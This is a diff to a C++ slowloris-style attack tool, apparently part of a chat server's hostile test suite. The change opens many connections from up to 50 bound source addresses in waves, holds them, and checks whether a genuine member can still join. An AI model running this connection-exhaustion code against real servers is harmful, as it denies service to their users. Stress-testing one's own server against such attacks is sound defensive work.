@@ -4,12 +4,46 @@
 //   attack_chat_slowloris HOST PORT PASSWORD COUNT WAIT_S
 #include <sys/epoll.h>
 
+#include <algorithm>
+#include <span>
 #include <vector>
 
 #include "hostile/attackers/chat_peer.h"
 
 using namespace soket;
 using namespace soket::attack;
+
+namespace {
+
+// Connects go in waves, each waited for, so the kernel's queue of half-open connections
+// (net.ipv4.tcp_max_syn_backlog, 2048 here) never overflows into SYN cookies: a cookie
+// connection whose last ACK meets a full accept queue is lost by the server without a trace
+// while this side believes it open, and would look like one the server never closed.
+constexpr int kWave = 250;
+
+int connect_silently(const net::Address& server, int i) {
+  const std::string source = origin(static_cast<std::uint32_t>(i % 50));
+  const int fd = bound_socket(SOCK_STREAM | SOCK_NONBLOCK, source.c_str());
+  if (fd < 0) fail("socket: " + std::string(std::strerror(errno)));
+  if (::connect(fd, server.data(), server.length()) != 0 && errno != EINPROGRESS) {
+    fail("connect: " + std::string(std::strerror(errno)));
+  }
+  return fd;
+}
+
+// Until every socket of the wave has finished its handshake (or failed), at most `limit`.
+void await_connected(std::span<const int> wave, Duration limit) {
+  std::vector<pollfd> pending;
+  for (int fd : wave) pending.push_back({fd, POLLOUT, 0});
+  const auto deadline = Clock::now() + limit;
+  while (!pending.empty() && Clock::now() < deadline) {
+    if (::poll(pending.data(), pending.size(), 500) < 0 && errno != EINTR) fail("poll");
+    std::erase_if(pending, [](const pollfd& p) { return p.revents != 0; });
+  }
+  if (!pending.empty()) fail(std::to_string(pending.size()) + " connects never completed");
+}
+
+}  // namespace
 
 int main(int argc, char** argv) {
   if (argc != 6) usage("attack_chat_slowloris HOST PORT PASSWORD COUNT WAIT_S");
@@ -21,16 +55,14 @@ int main(int argc, char** argv) {
   const int poller = ::epoll_create1(EPOLL_CLOEXEC);
   std::vector<int> fds;
   const auto start = Clock::now();
+  for (int first = 0; first < count; first += kWave) {
+    const int last = std::min(count, first + kWave);
+    for (int i = first; i < last; ++i) fds.push_back(connect_silently(server, i));
+    await_connected(std::span(fds).subspan(first), 30s);
+  }
   for (int i = 0; i < count; ++i) {
-    const std::string source = origin(static_cast<std::uint32_t>(i % 50));
-    const int fd = bound_socket(SOCK_STREAM | SOCK_NONBLOCK, source.c_str());
-    if (fd < 0) fail("socket: " + std::string(std::strerror(errno)));
-    if (::connect(fd, server.data(), server.length()) != 0 && errno != EINPROGRESS) {
-      fail("connect: " + std::string(std::strerror(errno)));
-    }
     epoll_event event{EPOLLIN | EPOLLRDHUP, {.u32 = static_cast<std::uint32_t>(i)}};
-    ::epoll_ctl(poller, EPOLL_CTL_ADD, fd, &event);
-    fds.push_back(fd);
+    ::epoll_ctl(poller, EPOLL_CTL_ADD, fds[i], &event);
   }
   ChatPeer member(server, false);
   if (!member.join(password, "patient", 10s)) fail("a member could not join among them");
